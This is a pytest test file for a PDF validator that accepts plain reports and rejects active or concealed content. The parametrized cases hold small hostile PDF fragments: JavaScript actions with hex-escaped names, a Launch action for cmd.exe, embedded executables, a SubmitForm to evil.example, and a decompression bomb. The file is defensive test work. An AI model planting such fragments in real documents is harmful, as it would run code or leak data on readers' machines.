"""Plain reports pass; a PDF that acts, hides or bursts does not, however its names are written."""

import random
import time
import zlib
from contextlib import suppress

import pytest

from server.visits.documents.errors import ActiveDocument, DocumentBroken, DocumentTooLarge
from server.visits.documents.pdfs import check_pdf
from tests.visits.documents.samples import photograph, report, stream

PROGRAM = b"<</S/JavaScript/JS(app.alert(1))>>"


def test_a_plain_report_passes() -> None:
    check_pdf(report())
    check_pdf(report(stream(b"", b"/Subtype/Image/Filter/DCTDecode", photograph())))
    check_pdf(report(stream(b"5 0 <</Type/Page>>", b"/Type/ObjStm/Filter/FlateDecode/N 1/First 4")))
    check_pdf(report(b"5 0 obj\n<</A/JavaScripting/B/XFAdc/MovieTitle 1>>\nendobj\n"))


@pytest.mark.parametrize("seed", range(5))
def test_noise_is_not_taken_for_a_program(seed: int) -> None:
    check_pdf(report(stream(b"", b"/Filter/DCTDecode", random.Random(seed).randbytes(500_000))))  # noqa: S311


@pytest.mark.parametrize(
    "part",
    [
        b"5 0 obj\n" + PROGRAM + b"\nendobj\n",
        b"5 0 obj\n<</S/J#61v#61Scr#69pt/JS(x)>>\nendobj\n",
        b"5 0 obj\n<</S/#4aava#53cript/JS(x)>>\nendobj\n",
        b"5 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n",
        b"5 0 obj\n<</Names<</EmbeddedFiles 6 0 R>>>>\nendobj\n",
        b"5 0 obj\n<</Type/EmbeddedFile>>\nendobj\n",
        b"5 0 obj\n<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 6 0 R>>>>>>\nendobj\n",
        b"5 0 obj\n<</S/#52endition/JS(x)>>\nendobj\n",
        b"5 0 obj\n<</Subtype/Movie>>\nendobj\n",
        b"5 0 obj\n<</AcroForm<</XFA 7 0 R>>>>\nendobj\n",
        b"5 0 obj\n<</S/SubmitForm/F(http://evil.example)>>\nendobj\n",
        b"5 0 obj\n<</Subtype/RichMedia>>\nendobj\n",
        b"trailer\n<</Encrypt 9 0 R>>\n",
        stream(b"5 0 " + PROGRAM, b"/Type/ObjStm/Filter/FlateDecode/N 1/First 4"),
        stream(b"5 0 " + PROGRAM, b"/Filter/FlateDecode"),
        stream(bytes(1024 * 1024 - 10) + PROGRAM, b"/Type/ObjStm/Filter/FlateDecode"),
        stream(b"", b"/Type/ObjStm/Filter/ASCIIHexDecode", PROGRAM.hex().encode()),
        stream(b"", b"/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]", b"<~~>"),
        stream(b"", b"/Type/#4fbjStm/Filter/L#5aWDecode", b"\x80"),
        stream(b"", b"/Type/ObjStm/Filter 8 0 R", b"x"),
    ],
)
def test_what_acts_or_hides_is_refused(part: bytes) -> None:
    with pytest.raises(ActiveDocument):
        check_pdf(report(part))


def test_what_comes_without_its_end_is_broken() -> None:
    with pytest.raises(DocumentBroken):
        check_pdf(report(tail=b""))
    with pytest.raises(DocumentBroken):
        check_pdf(report() + bytes(5000))


def test_a_bomb_is_refused_by_what_it_unpacks_to() -> None:
    with pytest.raises(DocumentTooLarge):
        check_pdf(report(stream(bytes(200 * 1024 * 1024))))


@pytest.mark.parametrize(
    "filling",
    [
        b"<<" * 1_000_000,
        b"/ObjStm" * 300_000,
        b"stream\n" + zlib.compress(b""),
        b"stream\n" * 400_000,
        b"#41" * 700_000,
        b"/#4a" * 500_000,
    ],
    ids=["brackets", "object streams", "empty streams", "no streams", "escapes", "half names"],
)
def test_no_file_keeps_the_search_busy(filling: bytes) -> None:
    whole = filling * max(1, 2_000_000 // len(filling))
    began = time.process_time()
    with suppress(ActiveDocument, DocumentTooLarge):
        check_pdf(report(whole))
    assert time.process_time() - began < 3
